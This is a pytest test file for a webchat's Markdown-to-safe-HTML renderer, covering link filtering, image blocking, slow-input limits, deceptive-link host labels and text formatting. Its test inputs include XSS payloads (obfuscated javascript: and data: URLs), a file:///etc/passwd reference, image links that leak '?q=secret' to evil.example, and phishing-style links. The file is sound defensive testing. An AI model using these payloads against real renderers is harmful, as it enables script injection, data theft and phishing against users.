"""Markdown as safe HTML: RX2, RX3, RX6, RX8, and the layout of answers."""

import html
import re
import sys
import time
import tracemalloc
from collections.abc import Callable
from urllib.parse import unquote

import pytest

from channels_app.webchat.html import is_allowed, real_host, render, render_as, render_plain
from tests import load_vectors

EVIL = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#115;cript:alert(1)",
    "&#106;avascript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "\\\\evil.example/x",
    "tg://resolve?domain=x",
    "file:///etc/passwd",
    "/admin/logout",
    "../admin",
    "http:///x",
    "https://[broken",
]


@pytest.mark.parametrize("href", EVIL)
def test_rx2_an_address_that_is_not_http_https_or_mailto_makes_no_link(href: str) -> None:
    for source in (
        f"[click]({href})",
        f"[click](<{href}>)",
        f"<{href}>",
        f"[a][b]\n\n[b]: <{href}>",
    ):
        assert "<a " not in render(source)
    assert "<a " not in render_plain(href)
    assert not is_allowed(href)


@pytest.mark.parametrize(
    "href",
    [
        "https://example.org/a?b=1#c",
        "http://example.org",
        "mailto:ada@example.org",
        "/files/out?token=a.b-c",
    ],
)
def test_rx2_the_allowed_ones_open_in_a_new_tab_and_say_nothing_about_us(href: str) -> None:
    shown = render(f"[click]({href})")
    assert f'href="{href}"' in shown
    assert 'target="_blank"' in shown
    assert 'rel="noopener noreferrer nofollow"' in shown


@pytest.mark.parametrize(
    "source",
    [
        "![x](https://evil.example/?q=secret)",
        "![x][r]\n\n[r]: https://evil.example/?q=secret",
        "| a |\n|---|\n| ![x](https://evil.example/?q=secret) |",
        '<img src="https://evil.example/?q=secret">',
        "[![x](https://evil.example/?q=secret)](https://other.example)",
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "![x](/files/out?token=abc)",
    ],
)
def test_rx3_no_image_in_markdown_is_ever_loaded(source: str) -> None:
    shown = render(source)
    assert "<img" not in shown
    assert " src=" not in shown.replace("&lt;img src=", "")


def test_rx3_a_picture_from_elsewhere_is_a_link_to_click() -> None:
    shown = render("![A cat](https://cats.example/cat.png)")
    assert '<a href="https://cats.example/cat.png" class="image-link"' in shown
    assert ">A cat</a>" in shown
    assert ">cats.example</a>" in render("![](https://cats.example/cat.png)")


@pytest.mark.parametrize("mark", list("[]*>_`~!<&(#|-+\\"))
def test_rx6_a_hundred_kilobytes_of_one_mark_take_no_minutes(mark: str) -> None:
    for pattern in (mark, f"{mark} ", f"a{mark}{mark}", f"{mark}\n"):
        text = (pattern * 100_000)[:100_000]
        started = time.process_time()
        shown = render(text)
        assert time.process_time() - started < 3.0
        assert shown


@pytest.mark.parametrize(
    "unit",
    ["http://a.b/?", "//a.b/?", "http://$.b/?", "http://a.b/(", 'http://$.b/"', "http://a.b/。"],
)
@pytest.mark.parametrize("shown_by", [render, render_plain])
def test_rx6_a_long_word_of_addresses_takes_no_minutes(
    unit: str, shown_by: Callable[[str], str]
) -> None:
    text = unit * (20_000 // len(unit))
    started = time.process_time()
    shown = shown_by(text)
    assert time.process_time() - started < 2.0
    assert "a.b" in shown or "$.b" in shown


def test_rx6_nested_tags_need_no_deep_stack() -> None:
    text = "<p>" * 280 + "words" + "</p>" * 280

    def below(frames: int) -> str:
        return below(frames - 1) if frames else render(text)

    assert "words" in below(sys.getrecursionlimit() - 400)


def test_long_texts_are_not_kept_in_memory() -> None:
    render("Warm.")
    tracemalloc.start()
    try:
        for number in range(8):
            assert len(render(f"\N{GRINNING FACE} {number} " + "a" * 190_000)) > 190_000
        kept, _ = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert kept < 2_000_000  # one of them has 760 kB, and so has its HTML


def test_rx6_expensive_text_is_shown_as_plain_text() -> None:
    shown = render("[" * 100_000)
    assert shown.startswith('<p class="plain">[[[')


@pytest.mark.parametrize(
    ("text", "href", "host"),
    [
        ("https://bank.example", "https://evil.example/x", "evil.example"),
        ("bank.example", "https://evil.example", "evil.example"),
        ("Sign in at bank.example now", "https://evil.example", "evil.example"),
        ("bank\u200b.example", "https://evil.example", "evil.example"),
        ("https://bank.example@evil.example", "https://bank.example@evil.example", "evil.example"),
        ("https://раураl.example", "https://xn--l-7sba6dbr.example", "xn--l-7sba6dbr.example"),
        ("https://example.org/a", "https://www.example.org/a", ""),
        ("the documentation", "https://docs.example", ""),
        ("write to us", "mailto:a@b.example", ""),
        ("Write to A@b.example.", "mailto:a@b.example?subject=x@y", ""),
        ("help@bank.example", "mailto:eve%40evil.example", "eve@evil.example"),
        ("help@bank.com", "mailto:help@bank.co", "help@bank.co"),
        ("a+b@c.com", "mailto:a+b@c.com?CC=e%2Bf@g.co&body=x", "a+b@c.com, e+f@g.co"),
        ("help@bank.com", "mailto:?to=help@bank.com", ""),
        ("he\u200blp@bank.com", "mailto:lp@bank.com", "lp@bank.com"),
    ],
)
def test_rx8_a_link_that_shows_another_address_names_its_real_host(
    text: str, href: str, host: str
) -> None:
    assert real_host(text=text, href=href) == host


def test_rx8_an_address_that_is_none_has_no_host() -> None:
    assert real_host(text="bank.example", href="https://[x") == ""


@pytest.mark.parametrize("part", ["a", "a.", "a-", "é"])
def test_rx8_a_very_long_text_of_a_link_costs_no_time(part: str) -> None:
    """[RX6] It is another address for certain, or hides one."""
    start = time.process_time()
    text = part * (20_000 // len(part))
    assert real_host(text=text, href="https://evil.example/x") == "evil.example"
    assert "evil.example" in render(f"[{text}](https://evil.example/x)")
    assert time.process_time() - start < 1
    assert real_host(text="a" * 200, href="https://evil.example/x") == ""


@pytest.mark.parametrize(
    "part", ["://", "a://", "x ://", "http:// ", "ahttp://b.c ", "ftp://a.example "]
)
def test_rx6_beginnings_of_addresses_cost_no_time(part: str) -> None:
    """[RX6] All text before one was read again with each."""
    start = time.thread_time()
    assert part.strip() in render(part * 10_000)
    assert time.thread_time() - start < 1.5


def test_rx8_the_real_host_stands_beside_the_link() -> None:
    shown = render("[https://bank.example](https://evil.example/login)")
    assert '<span class="real-host">(evil.example)</span>' in shown
    assert "real-host" not in render("[here](https://evil.example/login)")
    image = render("![https://bank.example](https://evil.example/x.png)")
    assert '<span class="real-host">(evil.example)</span>' in image


def test_rx8_an_address_that_is_shown_as_it_is_needs_no_note_whatever_its_path_looks_like() -> None:
    own = "http://127.0.0.1:8123/files/out?token=aa.6b0c038b.SmDnw"
    assert "real-host" not in render(own) + render_plain(own)
    assert real_host(text=own, href=own) == ""
    assert real_host(text=f"{own} bank.example", href=own) == "127.0.0.1"


def test_a_long_address_is_cut_after_its_host_and_leads_where_it_says() -> None:
    long = "https://example.org/files/out?token=" + "a" * 90
    for shown in (render(long), render_plain(long)):
        assert f'href="{long}"' in shown
        assert f">{long[:72]}…</a>" in shown
    host = "a" * 60 + "." + "b" * 60 + ".example"
    for shown in (render(f"https://{host}/x/y"), render_plain(f"https://{host}/x/y")):
        assert f">https://{host}/…</a>" in shown
    named = f"[{long}]({long})"
    assert f">{long}</a>" in render(named)
    assert f">{long}</a>" not in render(f"<{long}>")


def test_raw_html_is_shown_and_not_obeyed() -> None:
    shown = render('<script>alert(1)</script> <b onclick="x">hi</b> <iframe src="/"></iframe>')
    assert "<script" not in shown
    assert "<b" not in shown.replace("<br", "")
    assert "&lt;script&gt;" in shown


TAGS = {
    "| a |\n|---|\n| x<br>y<br/>z |": "<td>x<br>\ny<br>\nz</td>",
    "H<sub>2</sub>O, 10<sup>6</sup>": "<p>H<sub>2</sub>O, 10<sup>6</sup></p>",
    "**H<sub>2</sub>O** <B>*b*</B>": "<strong>H<sub>2</sub>O</strong> <strong><em>b</em></strong>",
    "<p>a</p> text <p>b</p> c": "<p>a<br>\n text <br>\nb<br>\n c</p>",
    "<p>Wrap it in <ul> and </ul>.</p>": "<p>Wrap it in &lt;ul&gt; and &lt;/ul&gt;.</p>",
    "<p>So: <ul><li>a</li><li>b</li></ul></p>": "<p>So: <br>\n• a<br>\n• b</p>",
    "<details>\n<summary>A</summary>\n\nb\n\n</details>": "<p><strong>A</strong></p>\n<p>b</p>",
    "> [!NOTE]\n> Hi": "<p><strong>Note:</strong><br>\nHi</p>",
    "> [!tip] Hi": "<p><strong>Tip:</strong> Hi</p>",
    "> ---\n> ```\n> [!NOTE] Hi\n> ```": "<code>[!NOTE] Hi",
    "<b> ends with `</b>`": "&lt;b&gt; ends with <code>&lt;/b&gt;</code>",
    "<small>*a*</small>": "<small><em>a</em></small>",
    "[<b>a.org</b>](https://b.org)": '<span class="real-host">(b.org)</span>',
    "`<br>` <b>a List<String>": "<p><code>&lt;br&gt;</code> &lt;b&gt;a List&lt;String&gt;</p>",
}


@pytest.mark.parametrize("text", TAGS)
def test_t2_tags_and_alerts_that_models_write_are_shown_as_meant(text: str) -> None:
    """As on the other channels; without attributes, and styles only in pairs."""
    assert TAGS[text] in render(text)
    assert render(text).count("<p>") <= 2


CJK = {
    "**注意：**请看": "<strong>注意：</strong>请看",
    "这是**“重要”**的*（斜）*体": "<strong>“重要”</strong>的<em>（斜）</em>体",
    '이것은 **"중요"**합니다': '<strong>"중요"</strong>합니다',
    "**`x`**の~~「y」~~は": "<strong><code>x</code></strong>の<s>「y」</s>は",
    "**[链](https://e.com)**的": "</a></strong>的",
    "**a:**b 2 * 3": "**a:**b 2 * 3",
}


@pytest.mark.parametrize("text", CJK)
def test_t2_styles_begin_and_end_beside_cjk_text_as_on_other_channels(text: str) -> None:
    assert CJK[text] in render(text)


def test_of_a_link_that_leads_nowhere_the_text_is_shown_as_on_other_channels() -> None:
    said = "[**Intro**](#intro) [a](b/c.md) [d](sandbox:/mnt/x.pptx) ![e](f.png) f[0](x) <std::map>"
    assert render(said) == "<p><strong>Intro</strong> a d e f[0](x) &lt;std::map&gt;</p>\n"


@pytest.mark.parametrize("text", ["fns[0](e.data)", "a[b[0]](x.y)", "m[i + 1](x)", "f[k]()"])
def test_an_index_before_brackets_is_no_link(text: str) -> None:
    assert render(text) == f"<p>{text}</p>\n"
    assert '<a href="https://e.org"' in render("see[1](https://e.org)")
    assert f">{text}</a>" in render(f"[{text}](https://e.org)")


def test_t2_footnotes_are_raised_numbers_where_they_have_a_note() -> None:
    said = "Salt[^1], [^a-z]!\n\n- deep![^1]\n\n[^1]: https://e.org\n    twice"
    assert re.sub(r"<a[^>]*>", "<a>", render(said)) == (
        "<p>Salt<sup>1</sup>, [^a-z]!</p>\n<ul>\n<li>deep!<sup>1</sup></li>\n</ul>\n"
        "<p><sup>1</sup> <a>https://e.org</a><br>\ntwice</p>\n"
    )
    in_list = render("[a[^1]](https://e.org)[^1][^2]\n\n- [^1]: b\n- [^2]: c")
    assert "a<sup>1</sup></a><sup>1</sup><sup> 2</sup></p>" in in_list
    assert "<li><sup>1</sup> b</li>\n<li><sup>2</sup> c</li>" in in_list
    assert "a[^1]" in render("a[^1]\n\n```\n[^1]: b\n```")


def test_t2_lists_and_folded_parts_in_the_cell_of_a_table_are_shown_line_by_line() -> None:
    cell = "| a |\n|---|\n| {} |".format
    listed = cell("<ul><li>**b**</li><li>c</li></ul>")
    assert "<td>• <strong>b</strong><br>\n• c</td>" in render(listed)
    assert "<td>b<br>\nc</td>" in render(cell("<p>b</p><p>c</p>"))
    assert "<td>• b<br>\n• c</td>" in render(cell("<ul><li><p>b</p></li><li>c</li></ul>"))
    folded = cell("<details><summary>b</summary>c</details>")
    assert "<td><strong>b</strong><br>\nc</td>" in render(folded)
    assert "use &lt;ul&gt; and &lt;li&gt;" in render("use <ul> and <li>")
    nested = cell("<ul><li>b<ul><li>c</li><li>d</li></ul></li><li>e</li></ul>")
    assert "<td>• b<br>\n• c<br>\n• d<br>\n• e</td>" in render(nested)
    assert "<td>Pros: <br>\n• b</td>" in render(cell("Pros: <ul><li>b</li></ul>"))
    assert "<strong>a <strong>b</strong> c</strong>" in render("<b>a <b>b</b> c</b>")
    assert "<strong>Name: </strong>Ada" in render("<b>Name: </b>Ada")


@pytest.mark.parametrize(
    "text",
    [
        "wrap it in <p>text</p>",
        "wrap it in <p> and close it with </p>",
        "<p> opens it, and </p> ends it",
        "use <b> and </b> for bold",
        "each is a <li>name</li>, the first a <summary>title</summary>",
    ],
)
def test_t2_tags_that_a_sentence_speaks_of_are_shown_as_written(text: str) -> None:
    assert render(text) == f"<p>{html.escape(text)}</p>\n"


@pytest.mark.parametrize("text", ["[INFO]: started.log", "[^1]: notes.txt", "//e.org/%C3%A4"])
def test_no_text_is_lost_where_no_link_is_shown(text: str) -> None:
    """A definition whose links lead nowhere, and an address without its scheme."""
    assert render(text) == f"<p>{text}</p>\n"


@pytest.mark.parametrize("shown", [render, render_plain])
def test_an_address_ends_before_a_sign_of_a_cjk_text(shown: Callable[[str], str]) -> None:
    said = "见 https://e.org/a，（https://e.org/b?c=1）。「https://e.org」https://e.org/页、"
    found = re.findall('href="([^"]*)"', shown(said))
    assert found[:3] == ["https://e.org/a", "https://e.org/b?c=1", "https://e.org"]
    assert unquote(found[3]) == "https://e.org/页"


@pytest.mark.unmeasured
def test_t2_tags_without_an_end_take_little_time() -> None:
    """Four times as many cost about four times as much, not sixteen, on a busy machine as well."""
    units = ("<b>", "<b><i><u>", "<b>a</b", "[<b>", "<sub><b></sub>")

    def cost(number: int) -> float:
        started = time.process_time()
        for each in units:
            render(each * number)
        return time.process_time() - started

    render("Warm.")
    small, large = cost(500), cost(2000)
    assert large < 9 * small


def test_t4_markdown_becomes_headings_lists_tables_code_and_tasks() -> None:
    shown = render(
        "# Title\n\n- [x] done\n- [ ] open\n\n| a | b |\n|--:|:-:|\n| 1 | 2 |\n\n"
        '```python\nprint("<b>")\n```\n\n~~old~~ **new** *soft* `code`\n\n3. three\n'
    )
    assert "<h3>Title</h3>" in shown
    assert shown.count('type="checkbox"') == 2
    assert shown.count("<label><input") == 2  # a box has the name of its item
    assert '<div class="table-scroll" tabindex="0">' in shown  # keys scroll it
    assert '<th align="right">a</th>' in shown
    assert "style=" not in shown  # the page's own policy would refuse it
    assert '<pre data-language="python"><code>print("&lt;b&gt;")' in shown
    assert "<s>old</s> <strong>new</strong> <em>soft</em> <code>code</code>" in shown
    assert '<ol start="3">' in shown


def test_a_table_head_without_words_has_empty_cells() -> None:
    """The style sheet hides such a head by that."""
    assert "<th></th>\n<th></th>" in render("| | |\n|---|---|\n| a | b |")


def test_headings_begin_under_the_pages_own_and_keep_their_order() -> None:
    shown = render("## A\n\n### B\n\n# C\n\n###### D")
    assert [
        shown[at + 1 : at + 3]
        for at, sign in enumerate(shown)
        if sign == "<" and shown[at + 1] == "h"
    ] == ["h3", "h4", "h3", "h6"]


def test_a_language_that_is_no_name_is_left_out() -> None:
    assert render('```"><script>\nx\n```').startswith("<pre><code>x")


def test_t4_plain_text_keeps_its_marks_and_its_lines_and_its_addresses_can_be_clicked() -> None:
    shown = render_as(text="*not bold*\n  https://example.org/a?b=1&c <b>", format="plain")
    assert shown == (
        '<p class="plain">*not bold*\n  <a href="https://example.org/a?b=1&amp;c" target="_blank" '
        'rel="noopener noreferrer nofollow">https://example.org/a?b=1&amp;c</a> &lt;b&gt;</p>'
    )


def test_t4_a_link_answer_makes_our_own_file_clickable() -> None:
    shown = render_as(text="Report is ready. Open: /files/out?token=a.b-c_d", format="link")
    assert '<a href="/files/out?token=a.b-c_d" target="_blank"' in shown


@pytest.mark.parametrize(
    "text", ["", "\x00a", "a\ud800b", "\u202e\u2066", "a" * 300_000, "\\", "]("]
)
def test_no_text_breaks_the_renderer(text: str) -> None:
    for shown in (render(text), render_plain(text)):
        shown.encode()
        assert "\x00" not in shown


@pytest.mark.parametrize(
    "text",
    [
        "10*20*30 = 6000",
        "2**10 and 2**16",
        "MY__VAR__NAME",
        "a*b*c",
        "src/**/*.ts",
        "the __init__.py file",
        "call __init__ and obj.__dict__[0]",
        "**/node_modules/** is ignored",
        "C:\\temp\\*.log",
        "¯\\_(ツ)_/¯",
        "^_^ hi ^_^",
        "can`t and won`t",
        "(a+b)*c + d*(e+f)",
    ],
)
@pytest.mark.parametrize(
    "around", ["{}", "**Volume:** {}", "* {}", "| a |\n| - |\n| {} |", "## {}"]
)
def test_t2_markers_inside_words_and_numbers_are_text(text: str, around: str) -> None:
    """[T2] Numbers, names and paths keep their characters on the page too."""
    shown = re.sub("<[^>]*>", "", render(around.format(text)))
    assert text in html.unescape(shown)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("و`code` داخل", "و<code>code</code> داخل"),
        ("ה`class` הזה", "ה<code>class</code> הזה"),
        ("ใช้`code`นะ", "ใช้<code>code</code>นะ"),
        ("و**غامق** نص", "و<strong>غامق</strong> نص"),
        ("ב**מודגש** כאן", "ב<strong>מודגש</strong> כאן"),
        ("و*مائل* نص", "و<em>مائل</em> نص"),
        ("٢*٣*٤", "٢*٣*٤"),
    ],
)
def test_t2_a_style_may_begin_behind_a_word_of_a_letter(text: str, shown: str) -> None:
    """[T2] Arabic and Hebrew join "and", "in" and "the" to the next word; Thai has no spaces."""
    assert render(text) == f"<p>{shown}</p>\n"


def test_t2_the_page_keeps_characters_as_every_other_channel_does() -> None:
    """[T2] One rule: words of ordinary messages in an answer with Markdown lose nothing."""
    lost = []
    for each in load_vectors("ordinary")["messages"]:
        shown = html.unescape(re.sub("<[^>]*>", "", render(f"**So:** {each['text']}")))
        if "".join(each["text"].split()) not in "".join(shown.split()):
            lost.append((each["text"], shown))
    assert len(lost) <= 4, lost  # styles that other channels find to be a face, a glob or a product
